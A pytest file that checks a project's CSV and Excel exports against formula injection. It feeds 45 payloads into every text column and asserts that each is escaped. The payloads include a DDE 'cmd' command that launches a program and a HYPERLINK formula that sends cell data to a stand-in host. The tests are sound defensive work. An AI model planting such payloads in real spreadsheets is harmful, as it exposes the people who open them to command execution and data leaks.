"""No text becomes a formula, whatever somebody has called a shop or an area."""

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from tracker.publication.files.columns import COLUMNS, NAMES, ColumnKind, Value
from tracker.publication.files.csv_file import harmless, table_lines
from tracker.publication.files.xlsx_file import write_xlsx

pytestmark = pytest.mark.once
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "\u3000=", "\0=", "\u00a0=")  # noqa: E501  # fmt: skip
ENDS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1)')
PAYLOADS = [sign + end for sign in SIGNS for end in ENDS]
TEXTS = [place for place, column in enumerate(COLUMNS) if column.kind is ColumnKind.TEXT]


def rows() -> list[tuple[Value, ...]]:
    """Each payload in every column of text."""
    return [
        tuple(payload if place in TEXTS else 1 for place in range(len(COLUMNS)))
        for payload in PAYLOADS
    ]


def test_there_are_enough_of_them() -> None:
    assert len(PAYLOADS) == 45
    assert len(TEXTS) >= 12


@pytest.mark.parametrize("for_excel", [False, True])
def test_none_survives_in_a_csv(for_excel: bool) -> None:
    text = "".join(table_lines(NAMES, rows(), for_excel=for_excel)).removeprefix("\ufeff")
    found = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert len(found) == len(PAYLOADS)
    for row, payload in zip(found, PAYLOADS, strict=True):
        assert {row[place] for place in TEXTS} == {f"'{payload}"}


def test_none_survives_in_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "all.xlsx"
    written = [tuple(v.replace("\0", "") if isinstance(v, str) else v for v in row)
               for row in rows()]  # fmt: skip
    write_xlsx(path, written, notes=PAYLOADS[:9], citation=PAYLOADS[:9])
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert len(cells) > len(PAYLOADS) * len(TEXTS)
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    texts = [str(cell.value) for cell in cells if isinstance(cell.value, str)]
    assert [text for text in texts if harmless(text) != text] == []


def test_a_plain_text_is_left_alone() -> None:
    assert [harmless(text) for text in ("千歳屋", "1-2-3 銀座", "")] == ["千歳屋", "1-2-3 銀座", ""]
